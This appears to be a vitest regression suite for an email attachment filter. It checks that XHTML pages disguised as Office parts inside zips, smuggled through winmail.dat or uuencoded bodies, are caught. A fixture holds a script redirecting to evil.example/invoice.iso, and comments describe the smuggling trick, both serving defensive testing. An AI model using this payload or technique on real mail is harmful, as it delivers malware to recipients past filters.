import { tnefStream, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 68, A68-1: a plain zip (not an Office document) carried in a winmail.dat or uuencoded in a text
// body has its files judged as pages by name (round 67), except paths an Office package's parts have
// (`word/document.xml`, `content.xml`, `xl/…`), so that a .docx carried the same way is not refused. But the
// exemption held whatever the zip was: `invoice.zip` inside a winmail.dat holding an XHTML page with a script as
// `word/document.xml` (Explorer opens the zip as a folder, a double click on the file opens it in the browser) was
// delivered. Such a page is now read by the page scan, the zip's own names deciding whether it is an Office package.
const stack = useLocalStack();
const kit = attackerKit(stack);

const XHTML =
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
  '<script>location = "https://evil.example/invoice.iso"</script></body></html>';
const PLAIN_XHTML = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><p>Hello</p></html>';
const WORD_PART =
  '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
  '<w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>';

/** A winmail.dat carrying one file, `name`, holding `data`. */
const inTnef = (name: string, data: Buffer): [Buffer, string] =>
  attachedFile('winmail.dat', tnefStream([{ title: name, longName: name, data }]), 'application/ms-tnef');

/** `data` uuencoded as `name` in a text body. */
function uuencodedBody(name: string, data: Buffer): [Buffer, string] {
  const char = (v: number) => (v === 0 ? '`' : String.fromCharCode(32 + v));
  const lines = [`begin 644 ${name}`];
  for (let i = 0; i < data.length; i += 45) {
    const chunk = data.subarray(i, i + 45);
    let line = char(chunk.length);
    for (let j = 0; j < chunk.length; j += 3) {
      const n = ((chunk[j] ?? 0) << 16) | ((chunk[j + 1] ?? 0) << 8) | (chunk[j + 2] ?? 0);
      line += [18, 12, 6, 0].map((shift) => char((n >> shift) & 63)).join('');
    }
    lines.push(line);
  }
  const part = `Content-Type: text/plain\r\n\r\nSee the invoice.\r\n${[...lines, '`', 'end'].join('\r\n')}\r\n`;
  return [mail([MIXED], withPart(part)), lines[1] ?? ''];
}

describe('A68-1: a page named like an Office part in a plain zip carried in a part', () => {
  attachmentTests(kit, {
    'word/document.xml in invoice.zip in a winmail.dat': inTnef(
      'invoice.zip',
      zipFile([{ name: 'word/document.xml', data: XHTML }]),
    ),
    'content.xml in invoice.zip in a winmail.dat': inTnef(
      'invoice.zip',
      zipFile([{ name: 'content.xml', data: XHTML }]),
    ),
    'word/document.xml in invoice.zip as PidTagAttachDataBinary': attachedFile(
      'winmail.dat',
      tnefStream([
        {
          title: 'invoice.zip',
          longName: 'invoice.zip',
          dataProperty: zipFile([{ name: 'word/document.xml', data: XHTML }]),
        },
      ]),
      'application/ms-tnef',
    ),
    'xl/report.xml in invoice.zip uuencoded in a text body': uuencodedBody(
      'invoice.zip',
      zipFile([{ name: 'xl/report.xml', data: XHTML }]),
    ),
  });

  it('(control) delivers a .docx and a plain zip of Office-like data carried in a winmail.dat', async () => {
    const docx = zipFile([
      { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types/>' },
      { name: 'word/document.xml', data: WORD_PART },
    ]);
    // An OpenDocument text's content.xml names the XHTML namespace and holds form and object elements.
    const odt = zipFile([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 },
      {
        name: 'content.xml',
        data:
          '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
          'xmlns:xhtml="http://www.w3.org/1999/xhtml" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" ' +
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><office:body><office:text>' +
          '<office:forms><form:form form:name="Standard"/></office:forms>' +
          '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></office:text></office:body>' +
          '</office:document-content>',
      },
    ]);
    for (const [name, data] of [
      ['report.odt', odt],
      ['report.docx', docx],
      ['parts.zip', zipFile([{ name: 'word/document.xml', data: WORD_PART }])],
      ['pages.zip', zipFile([{ name: 'content.xml', data: PLAIN_XHTML }])],
    ] as const) {
      expect((await kit.inbound(inTnef(name, data)[0])).verdict, name).toBe('DEFAULT');
      expect((await kit.inbound(uuencodedBody(name, data)[0])).verdict, `${name} uuencoded`).toBe('DEFAULT');
    }
  });
});
